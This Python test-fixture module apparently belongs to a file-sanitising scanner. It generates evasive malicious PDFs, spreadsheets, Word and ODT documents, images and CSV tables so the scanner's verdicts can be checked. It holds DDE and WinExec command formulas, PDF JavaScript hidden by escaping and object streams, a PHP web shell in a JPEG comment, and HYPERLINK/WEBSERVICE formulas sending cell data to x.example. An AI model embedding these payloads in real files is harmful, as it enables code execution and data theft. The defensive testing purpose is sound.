"""Harmful files that pass a search for known words, each made on demand.

The outcome of each: words of the message that refuses it, SEALED where nobody can say what it does, or TEXT
for a table that is kept as plain text, which no spreadsheet opens by itself.
"""

import zlib
from collections.abc import Callable
from io import BytesIO
from struct import pack
from zipfile import ZipFile

from openpyxl import Workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from handrail.cases.files.tests.sound import SEALED, TEXT, UNSHOWN, archive, jpeg, link, odt_with, png, word

PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]%s>>"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def pdf(*more: bytes, document: bytes = b"", page: bytes = b"", end: bytes = b"") -> bytes:
    """Return a PDF of one page: `more` are its objects from number 4 on, `end` stands before its table."""
    objects = [b"<</Type/Catalog/Pages 2 0 R%s>>" % document, PAGES, PAGE % page, *more]
    made, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj %s endobj\n" % (number, one)
    made += end
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    said = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, len(made))
    return made + head + table + said


def stream(data: bytes, said: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (said, len(data), data)


def mark(said: bytes, *more: bytes) -> bytes:
    """Return a PDF whose page has one annotation."""
    return pdf(b"<</Type/Annot/Rect[0 0 9 9]%s>>" % said, *more, page=b"/Annots[4 0 R]")


def packed(held: bytes, said: bytes = b"/Type/ObjStm") -> bytes:
    data = zlib.compress(held)
    return stream(data, said + b"/N 1/First %d/Filter/FlateDecode" % len(held.split(b"<")[0]))


def book(write: Callable[[Workbook], None]) -> bytes:
    made, out = Workbook(), BytesIO()
    write(made)
    made.save(out)
    return out.getvalue()


def formula(said: str) -> bytes:
    return book(lambda made: made.active.__setitem__("A1", said))


def named(said: str) -> bytes:
    return book(lambda made: made.defined_names.__setitem__("total", DefinedName("total", attr_text=said)))


def checked(said: str) -> bytes:
    def write(made: Workbook) -> None:
        rule = DataValidation(type="custom", formula1=said)
        rule.add("A1")
        made.active.add_data_validation(rule)

    return book(write)


def coloured(said: str) -> bytes:
    return book(lambda made: made.active.conditional_formatting.add("A1", FormulaRule(formula=[said])))


def formula_as(said: str) -> bytes:
    """Return a workbook with a formula whose XML is this, which no library writes."""
    with ZipFile(BytesIO(formula("=1+1"))) as made:
        parts = {name: made.read(name) for name in made.namelist()}
    parts[SHEET] = parts[SHEET].replace(b"<f>1+1</f>", said.encode())
    return archive({**parts})


def moved(parts: dict[str, bytes | str], name: str, to: str) -> bytes:
    """Return a Word document with a part under another name, which every mention of it follows."""
    shown = {
        key: value.replace(name, to).replace(name.rpartition("/")[2], to.rpartition("/")[2])
        for key, value in parts.items()
        if isinstance(value, str)
    }
    return archive({key.replace(name, to): value for key, value in shown.items()})


def with_part(kind: str, name: str = "word/more.xml") -> bytes:
    """Return a Word document with a part that declares this type."""
    parts = word(more={name: "<a/>"})
    said = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    parts["[Content_Types].xml"] = str(parts["[Content_Types].xml"]).replace("</Types>", said)
    return archive(parts)


def behind_the_dots() -> bytes:
    """Return a picture whose packed data go on after the picture."""
    dots = zlib.compress((b"\0" + bytes(9)) * 2) + b"#!/bin/sh"
    header = pack(">IIBBBBB", 3, 2, 8, 2, 0, 0, 0)
    return _png((b"IHDR", header), (b"IDAT", dots), (b"IEND", b""))


def more_than_the_dots() -> bytes:
    header = pack(">IIBBBBB", 3, 2, 8, 2, 0, 0, 0)
    return _png((b"IHDR", header), (b"IDAT", zlib.compress(bytes(5000))), (b"IEND", b""))


def _png(*parts: tuple[bytes, bytes]) -> bytes:
    made = (pack(">I", len(d)) + k + d + pack(">I", zlib.crc32(k + d)) for k, d in parts)
    return b"\x89PNG\r\n\x1a\n" + b"".join(made)


def in_a_photograph(marker: int, data: bytes) -> bytes:
    whole = jpeg()
    return whole[:2] + pack(">BBH", 0xFF, marker, len(data) + 2) + data + whole[2:]


DDE = "=cmd|'/c calc'!A1"
SHEET = "xl/worksheets/sheet1.xml"
CALLS, ELSEWHERE = "calls another program", "another place"
FIELD = "<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"
SPELT_OTHERWISE: dict[str, tuple[Callable[[], bytes], str]] = {
    "a script in a rendition": (lambda: mark(b"/A<</S/Rendition/JS(x)>>"), "script"),
    "a script under an escaped name": (
        lambda: pdf(document=b"/OpenAction<</S/J#61va#53cript/J#53(x)>>"),
        "script",
    ),
    "a script with a comment inside its name": (
        lambda: pdf(document=b"/OpenAction<</S/Java%\nScript/J%\nS(x)>>"),
        SEALED,
    ),
    "a script that no other part refers to": (lambda: pdf(SCRIPT), "script"),
    "a script in an earlier version of the file": (
        lambda: pdf(b"9").replace(b"4 0 obj 9 endobj", b"4 0 obj " + SCRIPT + b" endobj\n4 0 obj 9 endobj"),
        "script",
    ),
    "a script when a page opens": (lambda: pdf(SCRIPT, page=b"/AA<</O 4 0 R>>"), "script"),
    "a script in a packed list that hides its type": (lambda: pdf(packed(b"9 0 " + SCRIPT, b"")), "script"),
    "a script in a packed list, behind a text": (
        lambda: pdf(packed(b"9 3 <(" + SCRIPT.replace(b"(app.alert\\(1\\))", b"<61>") + b")>>")),
        SEALED,
    ),
    "a script in a text that a repairing program takes for a part": (
        lambda: pdf(b"(\n9 0 obj <</S/#4aavaScript>> endobj\n)"),
        SEALED,
    ),
    "a script in a picture that a repairing program takes for a part": (
        lambda: pdf(stream(b"9 0 obj " + SCRIPT + b" endobj")),
        SEALED,
    ),
    "a second trailer in a comment": (lambda: pdf(end=b"%trailer<</Root 9 0 R>>\n"), SEALED),
    "a key that stands twice": (lambda: mark(b"/Subtype/Link/Subtype/Link"), SEALED),
    "an action that nobody knows": (lambda: mark(b"/Subtype/Link/A 5 0 R", b"<</S/Frobnicate>>"), SEALED),
    "an unknown action behind a known one": (
        lambda: mark(b"/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>", b"<</S/Frobnicate>>"),
        SEALED,
    ),
    "an unknown action behind two references": (
        lambda: pdf(b"5 0 R", b"<</S/Frobnicate>>", document=b"/OpenAction 4 0 R"),
        SEALED,
    ),
    "an unknown action in a list behind a reference": (
        lambda: mark(b"/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>", b"[6 0 R]", b"<</S/Frobnicate>>"),
        SEALED,
    ),
    "an unknown action in a list that a reference leads to": (
        lambda: mark(b"/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>", b"[[<</S/Frobnicate>>]]"),
        SEALED,
    ),
    "an unknown action in a table of events behind a reference": (
        lambda: pdf(b"<</WC<</S/Frobnicate>>>>", document=b"/AA 4 0 R"),
        SEALED,
    ),
    "an unknown action behind a table of events behind two references": (
        lambda: pdf(b"5 0 R", b"<</O 6 0 R>>", b"7 0 R", b"<</S/Frobnicate>>", page=b"/AA 4 0 R"),
        SEALED,
    ),
    "an unknown event behind a reference": (
        lambda: pdf(b"<</Odd<</S/Frobnicate>>>>", document=b"/AA 4 0 R"),
        SEALED,
    ),
    "an action whose name stands behind a reference": (
        lambda: pdf(b"<</S 5 0 R>>", b"/Frobnicate", document=b"/OpenAction 4 0 R"),
        SEALED,
    ),
    "a link to a program by the address of all links": (
        lambda: pdf(document=b"/URI<</Base(file:///c:/)>>"),
        "another file",
    ),
    "an address of all links behind a reference": (
        lambda: pdf(b"(file:///c:/)", document=b"/URI<</Base 4 0 R>>"),
        SEALED,
    ),
    "a link to a program behind a backslash that counts for nothing": (
        lambda: mark(b"/Subtype/Link/A<</S/URI/URI(fi\\le:///c:/\\8.exe)>>"),
        "another file",
    ),
    "a program for printers by a reference": (lambda: pdf(stream(b"", b"/Subtype 5 0 R"), b"/PS"), SEALED),
    "more pages than it seems": (
        lambda: pdf(b"[%s]" % (b"3 0 R " * 2000)).replace(b"/Kids[3 0 R]", b"/Kids 4 0 R"),
        SEALED,
    ),
    "an annotation that nobody knows": (lambda: mark(b"/Subtype/Frobnicate"), SEALED),
    "an annotation that plays": (lambda: mark(b"/Subtype/#53creen"), "film"),
    "a document that needs something": (lambda: pdf(document=b"/Requirements[]"), SEALED),
    "a document that fetches pages": (lambda: pdf(document=b"/SpiderInfo<<>>"), "starts a program"),
    "a collection of files": (lambda: pdf(document=b"/Collection<<>>"), "other files"),
    "a form of another language": (lambda: pdf(document=b"/AcroForm<</XF#41 4 0 R>>"), "form"),
    "a link to a share of a stranger": (
        lambda: mark(b"/Subtype/Link/A<</S/URI/URI(\\134\\134host\\134share)>>"),
        "another file",
    ),
    "a link that is a script": (lambda: mark(b"/Subtype/Link/A<</S/URI/URI<6a617661736372697074>/T()>>"
        .replace(b"<6a617661736372697074>", b"<6a6176617363726970743a78>")), "another file"),
    "a link to a program": (lambda: mark(b"/Subtype/Link/A<</S/URI/URI(file:///c:/x.exe)>>"), "another file"),
    "a stream from another place": (lambda: pdf(stream(b"", b"/F(//host/x)")), "from another file"),
    "a page of another file": (lambda: pdf(stream(b"", b"/Subtype/Form/Ref<<>>")), "from another file"),
    "a program for printers": (lambda: pdf(stream(b"", b"/Subtype/PS")), "starts a program"),
    "a filter that nobody knows": (lambda: pdf(stream(b"", b"/Filter[/FlateDecode/Frob]")), SEALED),
    "pages that lead to themselves": (
        lambda: pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
        UNSHOWN,
    ),
    "a sheet that fetches a page": (lambda: formula('=_xlfn.WEBSERVICE("http://x.example")'), CALLS),
    "a sheet that sends a cell by a link": (lambda: formula('=HYPERLINK("http://x.example/"&B1,"a")'), CALLS),
    "a sheet that opens a file by a link": (lambda: formula('=HYPERLINK("file:///c:/x.exe")'), CALLS),
    "a sheet that starts a program": (lambda: formula(DDE), CALLS),
    "a sheet that asks a program": (lambda: formula('=SUM(1,RTD("x","","y"))'), CALLS),
    "a sheet that calls a library": (lambda: formula('=CALL("kernel32","WinExec","JCJ","calc",0)'), CALLS),
    "a sheet that reads another file": (lambda: formula("='[1]Sheet 1'!A1"), CALLS),
    "a sheet with a function that nobody knows": (lambda: formula("=FROBNICATE(A1)"), SEALED),
    "a name that fetches a page": (lambda: named('WEBSERVICE("http://x.example")'), CALLS),
    "a rule of a cell that starts a program": (lambda: checked(DDE[1:]), CALLS),
    "a colour that starts a program": (lambda: coloured(DDE[1:]), CALLS),
    "a sheet that fetches a page, with something between the letters": (
        lambda: formula_as('<f>WEBS<x/>ERVICE("http://x.example")</f>'),
        CALLS,
    ),
    "a sheet that fetches a page behind something else": (
        lambda: formula_as('<f>"<x/>WEBSERVICE("http://x.example")</f>'),
        SEALED,
    ),
    "a sheet with something else in a formula": (lambda: formula_as("<f>1+<x>1</x></f>"), SEALED),
    "a sheet that fetches a page in the second of two formulas": (
        lambda: formula_as('<formula1><f>"</f><f>WEBSERVICE("http://x.example")</f></formula1>'),
        CALLS,
    ),
    "a field that starts a program, with something between the letters": (
        lambda: archive(word("<w:p><w:r><w:instrText>DD<w:x/>EAUTO cmd</w:instrText></w:r></w:p>")),
        ELSEWHERE,
    ),
    "a field that starts a program once a change is refused": (
        lambda: archive(word("<w:p><w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r></w:p>")),
        ELSEWHERE,
    ),
    "a field that starts a program in another folder": (
        lambda: moved(word(FIELD), "word/document.xml", "other/document.xml"),
        ELSEWHERE,
    ),
    "a field that starts a program under the name of a picture": (
        lambda: moved(word(FIELD), "word/document.xml", "word/document.png"),
        SEALED,
    ),
    "a template from elsewhere under a name in capitals": (
        lambda: archive(
            {
                key.replace("xml.rels", "xml.RELS"): value
                for key, value in word(links=link("attachedTemplate", "http://x.example/t.dotm")).items()
            }
        ),
        ELSEWHERE,
    ),
    "a text that asks a program": (
        lambda: odt_with('<d:dde-connection-decl xmlns:d="urn:t" d:dde-application="cmd"/>'),
        ELSEWHERE,
    ),
    "a text that runs a macro": (lambda: odt_with('<d:execute-macro xmlns:d="urn:t"/>'), ELSEWHERE),
    "a text with a picture of the folder above": (
        lambda: odt_with('<d:image xmlns:d="urn:d" d:href="./../../a.png"/>'),
        ELSEWHERE,
    ),
    "a text that goes to another page by itself": (
        lambda: odt_with("", {"meta.xml": '<d:auto-reload xmlns:d="urn:m" d:href="http://x.example"/>'}),
        ELSEWHERE,
    ),
    "a text with menus of its own": (
        lambda: odt_with("", {"Configurations2/menubar/menubar.xml": "<menu/>"}),
        SEALED,
    ),
    "two parts whose names differ in capitals": (
        lambda: archive(word(more={"word/Document.xml": "<a/>"})),
        "damaged",
    ),
    "a part that is a web page": (lambda: with_part("text/html"), SEALED),
    "a part that is an object of a program": (
        lambda: with_part("application/vnd.openxmlformats-officedocument.oleObject"),
        SEALED,
    ),
    "a part that is an extension": (
        lambda: with_part("application/vnd.ms-office.webextension+xml"),
        SEALED,
    ),
    "a picture with a chunk of its own": (lambda: png(3, 2, (b"evIL", b"anything")), "more in the file"),
    "a picture with an archive in a remark": (
        lambda: png(3, 2, (b"tEXt", b"Comment\0" + archive({"a": b"b"})[:40])),
        "more in the file",
    ),
    "a picture with a script in a remark": (
        lambda: png(3, 2, (b"iTXt", b"Comment\0\0\0\0\0<SCRIPT>alert(1)</SCRIPT>")),
        "more in the file",
    ),
    "a picture with a program behind its dots": (behind_the_dots, "more in the file"),
    "a picture of more dots than it says": (more_than_the_dots, "more in the file"),
    "a picture with a script in a packed remark": (
        lambda: png(3, 2, (b"zTXt", b"Comment\0\0" + zlib.compress(b"<SCRIPT>alert(1)</SCRIPT>"))),
        "more in the file",
    ),
    "a picture with a script in a packed remark of another language": (
        lambda: png(3, 2, (b"iTXt", b"x\0\1\0en\0x\0" + zlib.compress(b"<SCRIPT>alert(1)</SCRIPT>", 1))),
        "more in the file",
    ),
    "a picture with something behind its packed colours": (
        lambda: png(3, 2, (b"iCCP", b"sRGB\0\0" + zlib.compress(b"colours") + b"anything")),
        "more in the file",
    ),
    "a picture with a remark that is not packed as it says": (
        lambda: png(3, 2, (b"zTXt", b"Comment\0\0anything")),
        "damaged",
    ),
    "a picture with anything for its time": (lambda: png(3, 2, (b"tIME", bytes(8))), "more in the file"),
    "a picture that moves": (lambda: png(3, 2, (b"acTL", bytes(8))), "more in the file"),
    "a photograph with a segment that nobody knows": (
        lambda: in_a_photograph(0xE5, b"anything"),
        "more in the file",
    ),
    "a photograph with a segment under a known number": (
        lambda: in_a_photograph(0xE1, b"anything"),
        "more in the file",
    ),
    "a photograph with a segment for no picture": (
        lambda: in_a_photograph(0xF0, b"Exif\0"),
        "more in the file",
    ),
    "a photograph with a segment that ends before it begins": (
        lambda: in_a_photograph(0xFE, b"").replace(b"\xff\xfe\0\2", b"\xff\xfe\0\0\0"),
        "damaged",
    ),
    "a photograph with far more data than dots": (
        lambda: jpeg().replace(b"\x12\x34", b"\x12\x34" * 50_000),
        "more in the file",
    ),
    "a photograph with a program of a server in a remark": (
        lambda: in_a_photograph(0xFE, b"<?php system($_GET['c']);"),
        "more in the file",
    ),
    "a photograph with a PDF in a segment": (lambda: in_a_photograph(0xE5, b"%PDF-1.7"), "more in the file"),
    "a table that names its delimiter": (lambda: b"sep=!\na!b\nc,d!e\n1,2!3\n", TEXT),
    "a table with a formula": (lambda: b"a,b\n1,=1+1\n", TEXT),
    "a table with a formula under another delimiter": (lambda: b"a;b,c\n1;=1+1,2\n", TEXT),
    "a table with a formula behind a wide sign": ("a,b\n1,＝1+1\n".encode, TEXT),
    "a table with a formula behind a sign nobody sees": ("a,b\n1,\u200b=1+1\n".encode, TEXT),
    "a table with a formula in a quoted cell": (lambda: b'a,b\n"x\ny",\'=1+1\n', TEXT),
    "a table that starts a program": (f"a,b\n1,{DDE}\n".encode, CALLS),
    "a table that starts a program under another delimiter": (
        f"a,b\n1,x;{DDE}\n".encode,
        CALLS,
    ),
    "a table that names its delimiter and starts a program": (
        f"sep=^\na,b\n1,2^{DDE}\n".encode,
        CALLS,
    ),
    "a table in UTF-16 that starts a program": (lambda: f"a\tb\n1\t@{DDE[1:]}\n".encode("utf-16"), CALLS),
    "a table that fetches a page": (lambda: b'a,b\n1,"=WEBSERVICE(""http://x.example/""&A1)"\n', CALLS),
    "a table that sends a cell by a link": (lambda: b'a,b\n1,"-HYPERLINK(""http://x.example/""&A1)"\n', TEXT),
    "a table that a browser's spreadsheet would fill": (lambda: b"a\tb\n1\t=IMPORTXML(A1,A2)\n", CALLS),
}  # fmt: skip
